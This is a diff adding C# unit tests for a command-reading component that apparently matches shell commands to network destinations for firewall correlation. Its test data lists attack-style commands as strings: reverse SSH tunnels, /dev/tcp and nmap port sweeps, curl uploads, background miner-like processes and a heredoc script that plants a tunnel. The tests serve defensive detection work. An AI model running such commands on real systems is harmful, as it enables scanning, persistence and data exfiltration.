@@ -1,0 +1,72 @@
+using FwCorrelate.Commands;
+using FwCorrelate.Network;
+
+namespace FwCorrelate.Core.Tests.Commands;
+
+[TestClass]
+public sealed class CommandReadingTests
+{
+    [TestMethod]
+    [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 3333, MentionKind.Exact)]
+    [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 22, MentionKind.None)]
+    [DataRow("ssh -fN -R 2222:127.0.0.1:22 tun@203.0.113.66", "203.0.113.66", 22, MentionKind.Exact)]
+    [DataRow("ssh -p 2022 tun@203.0.113.66", "203.0.113.66", 2022, MentionKind.Exact)]
+    [DataRow("ssh tun@203.0.113.66", "203.0.113.66", 443, MentionKind.None)]
+    [DataRow("nc -w 2 -z 192.0.2.99 443", "192.0.2.99", 443, MentionKind.Exact)]
+    [DataRow("curl -s -m 2 http://192.0.2.99/upload", "192.0.2.99", 80, MentionKind.Exact)]
+    [DataRow("curl -s -m 2 http://192.0.2.99/upload", "192.0.2.99", 443, MentionKind.None)]
+    [DataRow("curl -s telnet://203.0.113.77:25", "203.0.113.77", 25, MentionKind.Exact)]
+    [DataRow("for i in $(seq 14 83); do timeout 0.15 bash -c \"</dev/tcp/10.77.9.$i/2375\" && echo $i; done", "10.77.9.20", 2375, MentionKind.Pattern)]
+    [DataRow("for i in $(seq 14 83); do timeout 0.15 bash -c \"</dev/tcp/10.77.9.$i/2375\" && echo $i; done", "10.77.9.20", 80, MentionKind.None)]
+    [DataRow("for p in 21 22 6379; do bash -c \"</dev/tcp/10.77.9.11/$p\"; done", "10.77.9.11", 6379, MentionKind.Exact)]
+    [DataRow("for p in 21 22 6379; do bash -c \"</dev/tcp/10.77.9.11/$p\"; done", "10.77.9.11", 80, MentionKind.AddressOnly)]
+    [DataRow("nmap -p 22,6379 10.8.0.0/16", "10.8.3.4", 6379, MentionKind.Pattern)]
+    [DataRow("nmap -p 22 10.8.0.1-254", "10.8.0.77", 22, MentionKind.Pattern)]
+    [DataRow("ping 203.0.113.7", "203.0.113.7", 3333, MentionKind.AddressOnly)]
+    [DataRow("python3 -c \"s.connect(('198.51.100.23', 3333))\"", "198.51.100.23", 3333, MentionKind.Exact)]
+    [DataRow("curl http://[2001:db8::7]:8080/x", "2001:db8::7", 8080, MentionKind.Exact)]
+    [DataRow("echo 198.51.100.33:3333 > conf", "198.51.100.33", 3333, MentionKind.None)]
+    [DataRow("ls -la", "198.51.100.33", 3333, MentionKind.None)]
+    [DataRow("curl 1198.51.100.33:3333", "198.51.100.33", 3333, MentionKind.None)]
+    public void Names_Destination_TellsHowItStandsInTheCommand(string command, string address, int port, MentionKind expected) =>
+        Assert.AreEqual(expected, CommandReading.Of(command).Names(HostAddress.Parse(address), port, "").Kind);
+
+    [TestMethod]
+    [DataRow("curl https://pool.example.org/x", "pool.example.org", 443, MentionKind.Exact)]
+    [DataRow("./m -o pool.example.org:4444", "eu.pool.example.org", 4444, MentionKind.Exact)]
+    [DataRow("./m -o pool.example.org:4444", "example.org", 4444, MentionKind.None)]
+    [DataRow("cat notes.txt", "notes.txt.example.org", 443, MentionKind.None)]
+    public void Names_Domain_MatchesItAndWhatLiesBelow(string command, string domain, int port, MentionKind expected) =>
+        Assert.AreEqual(expected, CommandReading.Of(command).Names(HostAddress.Parse("203.0.113.9"), port, domain).Kind);
+
+    [TestMethod]
+    [DataRow("ls; cat x | grep y > z; sleep 5", NetworkAbility.Inert)]
+    [DataRow("python3 x.py", NetworkAbility.Opaque)]
+    [DataRow("./deploy.sh; sleep 1", NetworkAbility.Opaque)]
+    [DataRow("echo $(curl x)", NetworkAbility.Opaque)]
+    [DataRow("echo hi > /dev/tcp/10.0.0.1/22", NetworkAbility.Opaque)]
+    [DataRow("", NetworkAbility.Opaque)]
+    public void Ability_Command_KnowsWhatCannotConnect(string command, NetworkAbility expected) =>
+        Assert.AreEqual(expected, CommandReading.Of(command).Ability);
+
+    [TestMethod]
+    [DataRow("nohup ./m &", true)]
+    [DataRow("ssh -fN host", true)]
+    [DataRow("ssh -N host", false)]
+    [DataRow("setsid ./m", true)]
+    [DataRow("./m", false)]
+    [DataRow("a && b", false)]
+    public void OutlivesCall_Command_KnowsWhatIsLeftBehind(string command, bool expected) =>
+        Assert.AreEqual(expected, CommandReading.Of(command).OutlivesCall);
+
+    [TestMethod]
+    public void UsesFileOf_ScriptWrittenBefore_IsFollowed()
+    {
+        var writer = CommandReading.Of("cat > deploy.sh <<'X'\nH=203.0.113.66\nnohup ssh -N -R 1:a:22 u@203.0.113.66 &\nX\nchmod +x deploy.sh");
+        var runner = CommandReading.Of("./deploy.sh; sleep 1; echo deployed");
+        Assert.IsTrue(runner.UsesFileOf(writer));
+        Assert.AreNotEqual(MentionKind.None, writer.WritesDown(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
+        Assert.AreEqual(MentionKind.None, writer.Names(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
+        Assert.IsFalse(CommandReading.Of("ls").UsesFileOf(writer));
+    }
+}
